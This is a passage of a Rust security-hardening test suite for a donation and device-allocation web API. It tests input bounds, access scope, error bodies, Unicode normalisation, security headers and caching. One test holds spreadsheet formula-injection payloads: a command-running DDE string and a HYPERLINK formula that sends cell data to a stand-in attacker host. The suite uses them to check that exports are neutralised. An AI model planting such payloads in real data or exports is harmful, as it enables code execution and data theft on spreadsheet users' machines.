//! Hardening: no input, race or fault turns into a 500, an echo of what was
//! sent, a stale token or a duplicate child. One test per defect a security
//! review reproduced (the issue's numbering is in each test's comment), and
//! a property test that feeds hostile text and numbers to the request types
//! and checks that every refusal is a 4xx that wrote nothing.

use std::collections::BTreeMap;
use std::time::Duration;

use actix_web::http::Method;
use diesel::prelude::*;
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config as ProptestConfig, RngAlgorithm, TestRng, TestRunner};
use serde_json::{json, Value};
use songmay::platform::db::with_conn;

use crate::helpers::{query_escape, spawn_app, spawn_app_with, student, TestApp};
use crate::reporting::reconciliation::{story, uncached_app};

#[derive(QueryableByName)]
struct Counted {
    #[diesel(sql_type = diesel::sql_types::BigInt)]
    n: i64,
}

/// The rows of every table but the audit log: a sync run is audited even
/// when it rejects every row it was sent.
fn data_snapshot(app: &TestApp) -> BTreeMap<String, i64> {
    let mut rows = app.row_counts();
    rows.remove("audit_log");
    rows
}

/// One text value of a table, read directly from the database.
fn stored_texts(app: &TestApp, sql: &str) -> Vec<String> {
    #[derive(QueryableByName)]
    struct Text {
        #[diesel(sql_type = diesel::sql_types::Text)]
        value: String,
    }
    let db = app.db.connect();
    let mut conn = db.get().expect("a connection");
    let rows: Vec<Text> =
        with_conn!(&mut conn, |c| diesel::sql_query(sql).load(c)).expect("read the rows");
    rows.into_iter().map(|r| r.value).collect()
}

fn body_text(reply: &crate::helpers::Reply) -> String {
    String::from_utf8_lossy(&reply.body).into_owned()
}

/// Asserts a refusal that names `field`: a 400/422 problem, or (for a sync
/// batch, which reports each row) a 200 whose only row was rejected.
#[track_caller]
fn refused_naming(reply: &crate::helpers::Reply, field: &str) {
    let text = body_text(reply);
    match reply.status.as_u16() {
        400 | 422 => {
            let problem = reply.problem(reply.status.as_u16());
            assert!(text.contains(field), "names {field}: {problem}");
        }
        200 => {
            let report = reply.json();
            assert_eq!(report["rejected"], 1, "{report}");
            assert_eq!(report["inserted"], 0, "{report}");
            assert_eq!(report["updated"], 0, "{report}");
            let named = report["rejected_rows"][0]["errors"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["field"] == field);
            assert!(named, "names {field}: {report}");
        }
        other => panic!("{other}: {text}"),
    }
}

// ---------------------------------------------------------------------------
// 1. Money is bounded, and no stored combination makes a read fail.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn amounts_beyond_a_trillion_dong_are_refused_and_the_largest_allowed_keep_every_read_up() {
    // The largest amounts are carried out at once here (four eyes is
    // `donations::a_large_purchase_or_reversal_waits_for_a_second_finance_officer`).
    let app = crate::helpers::spawn_app_with(|env| {
        env.insert("SONGMAY_PUBLIC_CACHE_SECONDS", "0".into());
        env.insert("SONGMAY_FOUR_EYES_VND", "1000000000000".into());
    })
    .await;
    let s = story(&app).await;
    let money = |amount: Value, reference: &str| {
        json!({"campaign_id": s.campaign, "donor_id": s.donors[0], "receipt_type": "donation",
               "kind": "money", "amount_vnd": amount, "received_on": "2021-10-05",
               "bank_reference": reference})
    };
    let before = app.row_counts();
    for (amount, case) in [
        (json!(9223372036854775807_i64), "i64::MAX"),
        (json!(18446744073709551615_u64), "u64::MAX"),
        (json!(1_000_000_000_001_i64), "one đồng over the bound"),
        (json!(0), "zero"),
        (json!(-5), "negative"),
        (json!(1e300), "a float"),
        (json!("1000"), "a string"),
    ] {
        let reply = app
            .post("/api/v1/receipts", Some(&s.kho), &money(amount, "FT-HUGE"))
            .await;
        let problem = reply.problem(422);
        assert_eq!(
            problem["errors"][0]["field"], "amount_vnd",
            "{case}: {problem}"
        );
    }
    assert_eq!(app.row_counts(), before, "refused receipts wrote nothing");

    // Two of the largest amount allowed (and a pledge of it): every read that
    // sums money still answers, with the exact sum.
    let max = 1_000_000_000_000_i64;
    let mut receipts = Vec::new();
    for reference in ["FT-MAX-1", "FT-MAX-2"] {
        receipts.push(
            app.post(
                "/api/v1/receipts",
                Some(&s.kho),
                &money(json!(max), reference),
            )
            .await
            .ok(201),
        );
    }
    app.post(
        "/api/v1/pledges",
        Some(&s.admin),
        &json!({"campaign_id": s.campaign, "donor_id": s.donors[1], "kind": "money", "amount_vnd": max}),
    )
    .await
    .ok(201);
    let balance = app
        .get(
            &format!("/api/v1/funds/balance?campaign_id={}", s.campaign),
            &s.admin,
        )
        .await
        .ok(200);
    assert_eq!(balance["balance_vnd"], json!(2 * max), "{balance}");
    app.get("/api/v1/stats/donations", &s.admin).await.ok(200);
    app.get("/api/v1/funds/trial-balance", &s.admin)
        .await
        .ok(200);
    app.get(
        &format!("/api/v1/funds/ledger?campaign_id={}", s.campaign),
        &s.admin,
    )
    .await
    .ok(200);
    for path in ["/api/v1/public/progress", "/api/v1/public/donations"] {
        app.request(Method::GET, path, None, None, vec![])
            .await
            .ok(200);
    }
    let reference = receipts[0]["public_ref"].as_str().unwrap();
    app.request(
        Method::GET,
        &format!("/api/v1/public/donations/{reference}/trace"),
        None,
        None,
        vec![],
    )
    .await
    .ok(200);
    // A purchase bounded by the balance, and a reversal, both still work.
    app.post(
        "/api/v1/purchases",
        Some(&s.admin),
        &json!({"campaign_id": s.campaign, "supplier_id": s.supplier, "kind": "device",
                "device_type": "laptop", "quantity": 1000, "unit_price_vnd": 1_000_000_000}),
    )
    .await
    .ok(201);
    app.post(
        &format!("/api/v1/receipts/{}/reversal", receipts[1]["id"]),
        Some(&s.admin),
        &json!({"reason": "entered twice"}),
    )
    .await
    .ok(201);
    let balance = app
        .get(
            &format!("/api/v1/funds/balance?campaign_id={}", s.campaign),
            &s.admin,
        )
        .await
        .ok(200);
    assert_eq!(balance["balance_vnd"], json!(0), "{balance}");
    // A purchase whose total passes the bound is refused by name.
    let reply = app
        .post(
            "/api/v1/purchases",
            Some(&s.admin),
            &json!({"campaign_id": s.campaign, "supplier_id": s.supplier, "kind": "device",
                    "device_type": "laptop", "quantity": 100_000, "unit_price_vnd": max}),
        )
        .await;
    assert!(
        reply.status.as_u16() == 422 || reply.status.as_u16() == 409,
        "{}",
        body_text(&reply)
    );
}

// ---------------------------------------------------------------------------
// 2. CSV cells that a spreadsheet would run as formulas are neutralised.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn exported_cells_never_start_a_formula() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let evil_school = "+cmd|' /C calc'!A0";
    app.post(
        "/api/v1/sync/schools",
        Some(&admin),
        &json!([{"moet_code": "TH-EVIL", "name": evil_school, "admin_unit_code": "04831", "level": "primary"}]),
    )
    .await
    .ok(200);
    let evil_name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Xem")"#;
    let mut record = student("HS-EVIL", "TH-EVIL", 3);
    record["full_name"] = json!(evil_name);
    app.sync_students(&admin, "", &[record]).await.ok(200);

    let export = app.get("/api/v1/students/export", &admin).await;
    assert_eq!(export.status.as_u16(), 200);
    let text = body_text(&export);
    let cells: Vec<String> =
        csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
    assert!(
        cells.contains(&format!("'{evil_name}")),
        "the name is written as text: {cells:?}"
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "a cell that starts a formula: {cell}"
        );
    }

    let coverage = app
        .get("/api/v1/stats/coverage?group_by=school&format=csv", &admin)
        .await;
    assert_eq!(coverage.status.as_u16(), 200);
    let text = body_text(&coverage);
    assert!(text.contains(&format!("'{evil_school}")), "{text}");
    assert!(!text.contains(&format!(",{evil_school}")), "{text}");

    // The export read back by the import gives the same name, not the quoted one.
    let import = app
        .request(
            Method::POST,
            "/api/v1/students/import",
            Some(&admin),
            Some("text/csv"),
            export.body.clone(),
        )
        .await;
    assert_eq!(import.status.as_u16(), 200, "{}", body_text(&import));
    let names = stored_texts(&app, "SELECT full_name AS value FROM students");
    assert_eq!(names, vec![evil_name.to_owned()]);
}

// ---------------------------------------------------------------------------
// 4. The handovers timeseries keeps to the caller's subtree.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn the_handovers_timeseries_counts_only_the_callers_subtree() {
    let app = uncached_app().await;
    let s = story(&app).await;
    s.one_student_and_a_tablet_for_them(&app, "TS-1").await;
    assert_eq!(
        s.allocate_and_hand_over(&app, &["device"], || true)
            .await
            .len(),
        1
    );

    async fn handed(app: &TestApp, token: &str, query: &str) -> i64 {
        let series = app
            .get(
                &format!("/api/v1/stats/timeseries?metric=handovers&interval=month{query}"),
                token,
            )
            .await
            .ok(200);
        series["points"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["count"].as_i64().unwrap())
            .sum()
    }
    // Đà Bắc (150) has the handover; the city (148) has none.
    let city = app
        .user_token(
            "officer.tp",
            "district_officer",
            json!({"admin_unit_code": "148"}),
        )
        .await;
    let da_bac = app
        .user_token(
            "officer.db",
            "district_officer",
            json!({"admin_unit_code": "150"}),
        )
        .await;
    assert_eq!(handed(&app, &s.admin, "").await, 1);
    assert_eq!(handed(&app, &s.admin, "&admin_unit=148").await, 0);
    assert_eq!(handed(&app, &s.admin, "&admin_unit=150").await, 1);
    assert_eq!(handed(&app, &da_bac, "").await, 1);
    assert_eq!(
        handed(&app, &city, "").await,
        0,
        "another district's handover"
    );
    app.get(
        "/api/v1/stats/timeseries?metric=handovers&interval=month&admin_unit=150",
        &city,
    )
    .await
    .problem(404);
}

// ---------------------------------------------------------------------------
// 5. NUL and other control characters: a named 4xx, never stored, never a 500.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn nul_bytes_are_refused_everywhere_and_never_stored() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.seed_schools(&admin).await;
    let before = data_snapshot(&app);
    let bodies: Vec<(&str, Value, &str)> = vec![
        (
            "/api/v1/users",
            json!({"username": "x.user", "password": "long enough\u{0} password", "role": "stats_reader"}),
            "password",
        ),
        (
            "/api/v1/campaigns",
            json!({"name": "Thư\u{0}ngỏ", "starts_on": "2021-09-01"}),
            "name",
        ),
        (
            "/api/v1/donors",
            json!({"kind": "individual", "name": "Bà\u{0}Lan", "inside_province": true}),
            "name",
        ),
        (
            "/api/v1/suppliers",
            json!({"name": "Công ty", "contact": "\u{0}"}),
            "contact",
        ),
        (
            "/api/v1/sync/schools",
            json!([{"moet_code": "TH\u{0}X", "name": "Trường", "admin_unit_code": "04831", "level": "primary"}]),
            "moet_code",
        ),
        (
            "/api/v1/coverage-gaps",
            json!({"admin_unit_code": "04831", "place_name": "Xóm\u{0}Bưa"}),
            "place_name",
        ),
        (
            "/api/v1/warehouses",
            json!({"name": "Kho\u{0}", "admin_unit_code": "17"}),
            "name",
        ),
    ];
    for (path, body, field) in bodies {
        let reply = app.post(path, Some(&admin), &body).await;
        refused_naming(&reply, field);
    }
    // A student record, through the sync.
    let mut record = student("HS\u{0}1", "TH-DABAC", 3);
    record["full_name"] = json!("Lò\u{0}Văn A");
    let reply = app.sync_students(&admin, "", &[record]).await;
    refused_naming(&reply, "external_id");
    assert!(
        reply.json()["rejected_rows"][0]["key"].is_null(),
        "a refused key is not repeated"
    );
    // Unauthenticated, in a query, in a path.
    let reply = app
        .post(
            "/api/v1/auth/token",
            None,
            &json!({"username": "admin\u{0}", "password": "whatever it is"}),
        )
        .await;
    assert!(
        matches!(reply.status.as_u16(), 400 | 422),
        "{}",
        body_text(&reply)
    );
    for path in [
        "/api/v1/needs/summary?admin_unit=%00",
        "/api/v1/schools?q=a%00b",
        "/api/v1/admin-units/17%00",
        "/api/v1/schools/by-code/%00",
    ] {
        app.get(path, &admin).await.problem(400);
    }
    app.request(
        Method::GET,
        "/api/v1/public/donations/%00/trace",
        None,
        None,
        vec![],
    )
    .await
    .problem(400);
    assert_eq!(data_snapshot(&app), before, "nothing was written");
    for (table, column) in [
        ("users", "username"),
        ("schools", "name"),
        ("students", "full_name"),
    ] {
        let with_nul = stored_texts(&app, &format!("SELECT {column} AS value FROM {table}"))
            .into_iter()
            .filter(|v| v.contains('\u{0}'))
            .count();
        assert_eq!(with_nul, 0, "{table}.{column}");
    }
}

// ---------------------------------------------------------------------------
// 6. A database that stops answering mid-request answers 503, not 500.
// ---------------------------------------------------------------------------

/// PostgreSQL: the backend serving a write is terminated while the write
/// waits inside its transaction; SQLite: another process holds the write
/// lock for longer than the busy timeout. Either way the write answers 503
/// with a retry hint, wrote nothing, and the next one succeeds.
#[actix_rt::test]
async fn a_connection_lost_inside_a_transaction_answers_503_and_the_next_request_works() {
    let app = spawn_app_with(|env| {
        env.insert("SONGMAY_DB_POOL_SIZE", "2".into());
    })
    .await;
    app.hold_the_database();
    let admin = app.admin_token().await;
    let campaign = json!({"name": "Thư ngỏ", "starts_on": "2021-09-01"});
    let before = app.row_counts();
    let reply = while_unavailable(
        &app,
        "campaigns",
        app.post("/api/v1/campaigns", Some(&admin), &campaign),
    )
    .await;
    let problem = reply.problem(503);
    assert_eq!(problem["type"], "urn:songmay:problem:unavailable");
    assert!(reply.header("retry-after").is_some(), "a retry hint");
    let text = problem.to_string().to_lowercase();
    for internal in [
        "terminat",
        "locked",
        "transaction manager",
        "sqlstate",
        "diesel",
    ] {
        assert!(
            !text.contains(internal),
            "no internals ({internal}): {text}"
        );
    }
    assert_eq!(app.row_counts(), before, "nothing was written");
    // The pool replaces the lost connection: the retry succeeds.
    let mut created = None;
    for _ in 0..3 {
        let reply = app.post("/api/v1/campaigns", Some(&admin), &campaign).await;
        if reply.status.as_u16() == 201 {
            created = Some(reply.json());
            break;
        }
        reply.problem(503);
    }
    let created = created.expect("a retry succeeds");
    assert_eq!(created["name"], "Thư ngỏ");
}

// ---------------------------------------------------------------------------
// 7. Error bodies name the field and what is accepted, never the value sent.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn refusals_never_echo_the_value_sent() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.seed_schools(&admin).await;
    let kho = app
        .user_token("kho.x", "warehouse_officer", json!({}))
        .await;
    const SECRET: &str = "Lò Văn Bí Mật";
    let q = query_escape(SECRET);
    let mut record = student("HS-ECHO", "TH-DABAC", 3);
    record["gender"] = json!(SECRET);
    let reply = app.sync_students(&admin, "", &[record]).await;
    let cases: Vec<(String, crate::helpers::Reply)> = vec![
        ("gender in a sync row".into(), reply),
        (
            "role".into(),
            app.post("/api/v1/users", Some(&admin), &json!({"username": "x.user", "password": "long enough password", "role": SECRET})).await,
        ),
        (
            "unknown admin unit code".into(),
            app.post("/api/v1/coverage-gaps", Some(&admin), &json!({"admin_unit_code": SECRET, "place_name": "Xóm"})).await,
        ),
        (
            "school admin unit".into(),
            app.post("/api/v1/sync/schools", Some(&admin), &json!([{"moet_code": "TH-Q", "name": "Trường", "admin_unit_code": SECRET, "level": "primary"}])).await,
        ),
        (
            "a date".into(),
            app.post("/api/v1/campaigns", Some(&admin), &json!({"name": "Thư", "starts_on": SECRET})).await,
        ),
        (
            "an e-mail".into(),
            app.post("/api/v1/donors", Some(&admin), &json!({"kind": "individual", "name": "Bà Lan", "inside_province": true, "email": SECRET})).await,
        ),
        (
            "a phone".into(),
            app.post("/api/v1/donors", Some(&admin), &json!({"kind": "individual", "name": "Bà Lan", "inside_province": true, "phone": SECRET})).await,
        ),
        (
            "a money amount".into(),
            app.post("/api/v1/receipts", Some(&kho), &json!({"campaign_id": 1, "receipt_type": "donation", "kind": "money", "amount_vnd": SECRET, "received_on": "2021-10-05"})).await,
        ),
        (
            "an enum in a query".into(),
            app.get(&format!("/api/v1/students?device_status={q}"), &admin).await,
        ),
        (
            "a number in a query".into(),
            app.get(&format!("/api/v1/students?grade={q}"), &admin).await,
        ),
        (
            "a date in a query".into(),
            app.get(&format!("/api/v1/audit-log?since={q}"), &admin).await,
        ),
        (
            "an unknown admin unit in a query".into(),
            app.get(&format!("/api/v1/stats/coverage?admin_unit={q}"), &admin).await,
        ),
        (
            "a path id".into(),
            app.get(&format!("/api/v1/students/{q}"), &admin).await,
        ),
        (
            "a path code".into(),
            app.get(&format!("/api/v1/schools/by-code/{q}"), &admin).await,
        ),
        (
            "a cursor".into(),
            app.get(&format!("/api/v1/students?cursor={q}"), &admin).await,
        ),
        (
            "a trace reference".into(),
            app.request(Method::GET, &format!("/api/v1/public/donations/{q}/trace"), None, None, vec![]).await,
        ),
        (
            "an unknown username".into(),
            app.post("/api/v1/auth/token", None, &json!({"username": SECRET, "password": "whatever it is"})).await,
        ),
    ];
    for (case, reply) in cases {
        let status = reply.status.as_u16();
        let batch_refused = status == 200 && reply.json()["rejected"] == 1;
        assert!(
            (400..500).contains(&status) || batch_refused,
            "{case}: {status}"
        );
        let text = body_text(&reply);
        for piece in ["Lò", "Bí Mật", "Mật", "L\\u00f2", "B%C3%AD"] {
            assert!(!text.contains(piece), "{case} echoes the value: {text}");
        }
    }
}

// ---------------------------------------------------------------------------
// 8. One child is one record whichever way the text was typed.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn composed_and_decomposed_text_spaces_and_phone_formats_are_one_record() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.seed_schools(&admin).await;
    let nfc = "HB-H\u{f2}a";
    let nfd = "HB-Ho\u{300}a";
    assert_ne!(nfc, nfd);
    let mut first = student(nfc, "TH-DABAC", 3);
    first["full_name"] = json!("Đinh Thị Hòa");
    let mut second = student(nfd, "TH-DABAC", 4);
    second["full_name"] = json!("Đinh Thị Ho\u{300}a");
    app.sync_students(&admin, "", &[first]).await.ok(200);
    let report = app.sync_students(&admin, "", &[second]).await.ok(200);
    assert_eq!(report["inserted"], 0, "{report}");
    assert_eq!(
        stored_texts(&app, "SELECT external_id AS value FROM students"),
        vec![nfc.to_owned()]
    );
    assert_eq!(
        stored_texts(&app, "SELECT full_name AS value FROM students"),
        vec!["Đinh Thị Hòa".to_owned()]
    );

    // A code with a space around it is the same school.
    let report = app
        .post(
            "/api/v1/sync/schools",
            Some(&admin),
            &json!([{"moet_code": " TH-DABAC ", "name": "Trường Tiểu học Đà Bắc", "admin_unit_code": "04831", "level": "primary"}]),
        )
        .await
        .ok(200);
    assert_eq!(report["inserted"], 0, "{report}");
    // A name stored decomposed is found by a composed search, and back.
    app.post(
        "/api/v1/sync/schools",
        Some(&admin),
        &json!([{"moet_code": "TH-HOA", "name": "Trường Ho\u{300}a Bình", "admin_unit_code": "04831", "level": "primary"}]),
    )
    .await
    .ok(200);
    for q in ["H\u{f2}a", "Ho\u{300}a"] {
        let found = app
            .get(&format!("/api/v1/schools?q={}", query_escape(q)), &admin)
            .await
            .ok(200);
        let codes: Vec<&str> = found["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["moet_code"].as_str().unwrap())
            .collect();
        assert_eq!(codes, vec!["TH-HOA"], "q={q:?}");
    }

    // Donors: one phone number or tax code written three ways is one donor.
    let first = app
        .post(
            "/api/v1/donors",
            Some(&admin),
            &json!({"kind": "organisation", "name": "Công ty A", "inside_province": true,
                    "phone": "0912345670", "tax_code": "0100109106", "email": "Lan@Example.VN"}),
        )
        .await
        .ok(201);
    assert_eq!(first["phone"], "+84912345670");
    let donors_before = app.row_counts()["donors"];
    for (field, value) in [
        ("phone", "0912 345 670"),
        ("phone", "+84 912.345.670"),
        ("phone", "84912345670"),
        ("tax_code", "0100 109 106"),
        ("email", "lan@example.vn"),
    ] {
        let mut body = json!({"kind": "individual", "name": "Người khác", "inside_province": true});
        body[field] = json!(value);
        let problem = app
            .post("/api/v1/donors", Some(&admin), &body)
            .await
            .problem(409);
        assert!(
            problem["detail"].as_str().unwrap().contains(field),
            "{field}: {problem}"
        );
    }
    assert_eq!(app.row_counts()["donors"], donors_before);
    // Suppliers: a tax code with spaces is the same supplier.
    app.post(
        "/api/v1/suppliers",
        Some(&admin),
        &json!({"name": "Công ty B", "tax_code": "5400987654"}),
    )
    .await
    .ok(201);
    app.post(
        "/api/v1/suppliers",
        Some(&admin),
        &json!({"name": "Công ty B (lần 2)", "tax_code": "5400 987 654"}),
    )
    .await
    .problem(409);
}

/// Rows written before the rule are brought to the same forms by the
/// maintenance run, without merging any two rows: a pair that would share
/// a key is reported and left alone, and rewritten students reach the
/// education data system's change feed.
#[actix_rt::test]
async fn the_maintenance_run_normalises_old_rows_and_reports_what_would_merge() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.seed_schools(&admin).await;
    app.sync_students(
        &admin,
        "",
        &[
            student("HS-A", "TH-DABAC", 3),
            student("HS-B", "TH-DABAC", 3),
        ],
    )
    .await
    .ok(200);
    for body in [
        json!({"kind": "individual", "name": "Bà Một", "inside_province": true, "phone": "0912345670"}),
        json!({"kind": "individual", "name": "Bà Hai", "inside_province": true, "phone": "0987654321"}),
    ] {
        app.post("/api/v1/donors", Some(&admin), &body)
            .await
            .ok(201);
    }
    // As a wave-1 database held them: decomposed, spaced, nationally written.
    let db = app.db.connect();
    let mut conn = db.get().unwrap();
    let old_rows = [
        "UPDATE students SET external_id = 'HS-Ho\u{300}a', full_name = 'Ho\u{300}a' WHERE external_id = 'HS-A'",
        "UPDATE schools SET moet_code = ' TH-DABAC' WHERE moet_code = 'TH-DABAC'",
        "UPDATE donors SET phone = '0912 345 670' WHERE phone = '+84912345670'",
        // A second spelling of a number another donor already has.
        "UPDATE donors SET phone = '+84 912345670' WHERE phone = '+84987654321'",
    ];
    for sql in old_rows {
        assert_eq!(
            with_conn!(&mut conn, |c| diesel::sql_query(sql).execute(c)).unwrap(),
            1,
            "{sql}"
        );
    }
    let feed_before = app.row_counts()["student_changes"];

    let dry = songmay::maintenance::normalise_identifiers(&mut conn, true).unwrap();
    assert!(dry.dry_run);
    assert_eq!(
        stored_texts(
            &app,
            "SELECT moet_code AS value FROM schools WHERE moet_code LIKE ' %'"
        )
        .len(),
        1,
        "a dry run changes nothing"
    );
    let report = songmay::maintenance::normalise_identifiers(&mut conn, false).unwrap();
    assert_eq!(report.changed["students"], 1, "{report:?}");
    assert_eq!(report.changed["schools"], 1, "{report:?}");
    // Both donors' numbers become +84912345670: the first is rewritten,
    // the second is left as it was and reported.
    assert_eq!(report.changed["donors"], 1, "{report:?}");
    assert_eq!(report.collisions.len(), 1, "{report:?}");
    assert_eq!(report.collisions[0].table, "donors");
    assert_eq!(report.collisions[0].field, "phone");
    let mut phones = stored_texts(&app, "SELECT phone AS value FROM donors");
    phones.sort();
    assert_eq!(
        phones,
        vec!["+84 912345670", "+84912345670"],
        "left for a person"
    );
    assert_eq!(
        stored_texts(
            &app,
            "SELECT full_name AS value FROM students WHERE external_id = 'HS-H\u{f2}a'"
        ),
        vec!["H\u{f2}a".to_owned()]
    );
    app.get("/api/v1/schools/by-code/TH-DABAC", &admin)
        .await
        .ok(200);
    assert_eq!(
        app.row_counts()["student_changes"],
        feed_before + 1,
        "the rewritten student is in the change feed"
    );
    // Run again: nothing left to do but the same pair to decide.
    let again = songmay::maintenance::normalise_identifiers(&mut conn, false).unwrap();
    assert_eq!(again.changed.values().sum::<usize>(), 0, "{again:?}");
    assert_eq!(again.collisions.len(), 1);
}

// ---------------------------------------------------------------------------
// 9, 10, 11. Scope of a gap's schools; bounded lists; the lesser items.
// ---------------------------------------------------------------------------

#[actix_rt::test]
async fn an_officer_cannot_attach_another_districts_school_to_a_gap() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let schools = app.seed_schools(&admin).await;
    let da_bac = app
        .user_token(
            "officer.db",
            "district_officer",
            json!({"admin_unit_code": "150"}),
        )
        .await;
    let before = app.row_counts();
    let city_school = schools["THPT-TP"];
    let problem = app
        .post(
            "/api/v1/coverage-gaps",
            Some(&da_bac),
            &json!({"admin_unit_code": "04831", "place_name": "Xóm Bưa", "school_ids": [city_school]}),
        )
        .await
        .problem(422);
    assert_eq!(problem["errors"][0]["field"], "school_ids", "{problem}");
    assert_eq!(app.row_counts(), before);
    // Its own district's school is fine.
    app.post(
        "/api/v1/coverage-gaps",
        Some(&da_bac),
        &json!({"admin_unit_code": "04831", "place_name": "Xóm Bưa", "school_ids": [schools["TH-DABAC"]]}),
    )
    .await
    .ok(201);
}

#[actix_rt::test]
async fn lists_in_a_request_are_bounded() {
    let app = spawn_app_with(|env| {
        env.insert("SONGMAY_MAX_JSON_BYTES", (4 * 1024 * 1024).to_string());
    })
    .await;
    let admin = app.admin_token().await;
    let before = app.row_counts();
    let kinds = vec!["device"; 100_000];
    let problem = app
        .post(
            "/api/v1/allocations/run",
            Some(&admin),
            &json!({"kinds": kinds}),
        )
        .await
        .problem(422);
    assert_eq!(problem["errors"][0]["field"], "kinds", "{problem}");
    let ids: Vec<i64> = (1..=5001).collect();
    let problem = app
        .post(
            "/api/v1/needs/transitions",
            Some(&admin),
            &json!({"ids": ids, "to": "verified"}),
        )
        .await
        .problem(422);
    assert_eq!(problem["errors"][0]["field"], "ids", "{problem}");
    assert_eq!(app.row_counts(), before);
}

#[actix_rt::test]
async fn priority_points_are_0_to_1000() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let rules = app.get("/api/v1/priority-rules", &admin).await.ok(200);
    let rule = rules[0]["rule"].as_str().unwrap().to_owned();
    let points_before = rules[0]["points"].clone();
    for points in [-1, 1001, i32::MAX as i64 + 1] {
        let reply = app
            .request(
                Method::PUT,
                &format!("/api/v1/priority-rules/{rule}"),
                Some(&admin),
                Some("application/json"),
                json!({"points": points}).to_string().into_bytes(),
            )
            .await;
        let problem = reply.problem(422);
        assert_eq!(
            problem["errors"][0]["field"], "points",
            "{points}: {problem}"
        );
    }
    let rules = app.get("/api/v1/priority-rules", &admin).await.ok(200);
    assert_eq!(rules[0]["points"], points_before);
}

#[actix_rt::test]
async fn a_schools_contact_is_shown_only_to_those_who_work_with_it() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.post(
        "/api/v1/sync/schools",
        Some(&admin),
        &json!([{"moet_code": "TH-C", "name": "Trường C", "admin_unit_code": "04831", "level": "primary", "contact": "Cô Hạnh 0912345670"}]),
    )
    .await
    .ok(200);
    let reader = app.user_token("reader", "stats_reader", json!({})).await;
    let city = app
        .user_token(
            "officer.tp",
            "district_officer",
            json!({"admin_unit_code": "148"}),
        )
        .await;
    let da_bac = app
        .user_token(
            "officer.db",
            "district_officer",
            json!({"admin_unit_code": "150"}),
        )
        .await;
    let contact_seen = |page: &Value| page["items"][0]["contact"].as_str().map(str::to_owned);
    let page = app
        .get(
            &format!("/api/v1/schools?q={}", query_escape("Trường C")),
            &admin,
        )
        .await
        .ok(200);
    assert_eq!(contact_seen(&page).as_deref(), Some("Cô Hạnh 0912345670"));
    let page = app
        .get(
            &format!("/api/v1/schools?q={}", query_escape("Trường C")),
            &da_bac,
        )
        .await
        .ok(200);
    assert!(contact_seen(&page).is_some(), "the district's own officer");
    for token in [&reader, &city] {
        let school = app.get("/api/v1/schools/by-code/TH-C", token).await.ok(200);
        assert!(school["contact"].is_null(), "{school}");
        assert!(!body_text(&app.get("/api/v1/schools?limit=100", token).await).contains("Hạnh"));
    }
}

#[actix_rt::test]
async fn traces_open_by_the_public_reference_not_by_the_receipt_number() {
    let app = uncached_app().await;
    let s = story(&app).await;
    let receipt = app
        .post(
            "/api/v1/receipts",
            Some(&s.kho),
            &json!({"campaign_id": s.campaign, "donor_id": s.donors[0], "receipt_type": "donation",
                    "kind": "money", "amount_vnd": 5_000_000, "received_on": "2021-10-05",
                    "bank_reference": "FT-TRACE"}),
        )
        .await
        .ok(201);
    let reference = receipt["public_ref"].as_str().unwrap();
    assert!(reference.len() >= 12, "{reference}");
    app.request(
        Method::GET,
        &format!("/api/v1/public/donations/{reference}/trace"),
        None,
        None,
        vec![],
    )
    .await
    .ok(200);
    for guess in [receipt["id"].to_string(), format!("R-{}", receipt["id"])] {
        let path = format!("/api/v1/public/donations/{}/trace", query_escape(&guess));
        app.request(Method::GET, &path, None, None, vec![])
            .await
            .problem(404);
    }
}

#[actix_rt::test]
async fn every_response_carries_the_browser_protections() {
    let app = spawn_app().await;
    for path in [
        "/docs/",
        "/api/v1/public/progress",
        "/health",
        "/api/v1/nothing-here",
    ] {
        let reply = app.request(Method::GET, path, None, None, vec![]).await;
        assert_eq!(
            reply.header("x-content-type-options").as_deref(),
            Some("nosniff"),
            "{path}"
        );
        let csp = reply.header("content-security-policy").unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("default-src"), "{path}: {csp}");
        assert!(!csp.contains("unsafe-eval"), "{path}: {csp}");
        assert_eq!(
            reply.header("x-frame-options").as_deref(),
            Some("DENY"),
            "{path}"
        );
    }
}

#[actix_rt::test]
async fn no_record_token_or_error_is_left_in_a_cache() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    app.seed_schools(&admin).await;
    app.sync_students(&admin, "", &[student("NS-1", "TH-DABAC", 2)])
        .await
        .ok(200);
    let id = app.get("/api/v1/students", &admin).await.ok(200)["items"][0]["id"]
        .as_i64()
        .unwrap();
    let token = app
        .post(
            "/api/v1/auth/token",
            None,
            &json!({"username": "admin", "password": crate::helpers::ADMIN_PASSWORD}),
        )
        .await;
    let record = app.get(&format!("/api/v1/students/{id}"), &admin).await;
    let list = app.get("/api/v1/students", &admin).await;
    let refused = app.get("/api/v1/students", "not-a-token").await;
    for (what, reply, status) in [
        ("a token", &token, 200),
        ("a child's record", &record, 200),
        ("a page of children", &list, 200),
        ("a refusal", &refused, 401),
    ] {
        assert_eq!(reply.status.as_u16(), status, "{what}");
        assert_eq!(
            reply.header("cache-control").as_deref(),
            Some("no-store"),
            "{what}"
        );
    }
    // A public page says its own: anyone may keep it for a minute.
    let public = app
        .request(Method::GET, "/api/v1/public/progress", None, None, vec![])
        .await;
    assert_eq!(
        public.header("cache-control").as_deref(),
        Some("public, max-age=60")
